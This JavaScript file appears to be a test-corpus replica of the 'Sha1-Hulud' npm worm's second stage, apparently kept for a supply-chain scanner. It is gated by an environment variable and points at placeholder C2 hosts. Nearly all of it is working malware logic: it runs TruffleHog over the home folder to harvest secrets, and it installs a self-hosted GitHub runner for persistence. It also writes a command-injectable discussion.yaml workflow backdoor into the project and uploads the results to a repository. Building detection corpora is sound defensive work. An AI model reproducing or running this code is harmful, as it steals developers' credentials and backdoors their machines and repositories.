// bun_environment.js, the second stage: TruffleHog in ~/.truffler-cache scanning the home
// folder; a GitHub self-hosted runner unpacked in ~/.dev-env and registered as SHA1HULUD; the
// .github/workflows/discussion.yaml backdoor written into the repository; results sent to
// GitHub. GitHub is the loopback C2 here; TruffleHog, config.sh and run.sh are scripts that exit;
// the repository is the project being installed (a temp folder in the tests).
if (process.env.SUPPLYWATCH_LIVE_CORPUS !== '1') process.exit(0);
const fs = require('fs');
const http = require('http');
const os = require('os');
const path = require('path');
const { spawnSync } = require('child_process');

const home = os.homedir();
// Resolved on 'close', not 'finish': a file still open for writing cannot be executed (ETXTBSY).
const get = (url, file) => new Promise((resolve) => http.get(url, (res) => res.pipe(fs.createWriteStream(file, { mode: 0o755 })).on('close', resolve)));

(async () => {
  const cache = path.join(home, '.truffler-cache');
  fs.mkdirSync(cache, { recursive: true });
  await get('__C2@github.com__/trufflesecurity/trufflehog/releases/download/v3.91.0/trufflehog', path.join(cache, 'trufflehog'));
  const secrets = spawnSync(path.join(cache, 'trufflehog'), ['filesystem', home, '--json'], { encoding: 'utf8' }).stdout;

  const runner = path.join(home, '.dev-env');
  fs.mkdirSync(runner, { recursive: true });
  await get('__C2@github.com__/actions/runner/releases/download/v2.330.0/actions-runner-linux-x64-2.330.0.tar.gz', path.join(runner, 'actions-runner-linux-x64-2.330.0.tar.gz'));
  spawnSync('tar', ['xzf', 'actions-runner-linux-x64-2.330.0.tar.gz'], { cwd: runner });
  spawnSync('./config.sh', ['--url', '__C2@github.com__/victim/sha1-hulud-repo', '--unattended', '--token', 'REDACTED', '--name', 'SHA1HULUD'], { cwd: runner, stdio: 'ignore' });
  spawnSync('sh', ['-c', 'nohup ./run.sh > /dev/null 2>&1'], { cwd: runner, stdio: 'ignore' });

  const repo = process.env.INIT_CWD || process.cwd();
  fs.mkdirSync(path.join(repo, '.github', 'workflows'), { recursive: true });
  fs.writeFileSync(path.join(repo, '.github', 'workflows', 'discussion.yaml'),
    'name: Discussion Create\non:\n  discussion:\njobs:\n  process:\n    runs-on: self-hosted\n    steps:\n      - run: echo ${{ github.event.discussion.body }}\n');

  await new Promise((resolve) => {
    const q = http.request('__C2@api.github.com__/repos/victim/sha1-hulud-repo/contents/contents.json', { method: 'PUT' }, (res) => res.resume().on('end', resolve));
    q.on('error', resolve);
    q.end(JSON.stringify({ content: Buffer.from(JSON.stringify({ secrets: secrets ? 'REDACTED' : '' })).toString('base64') }));
  });
})();
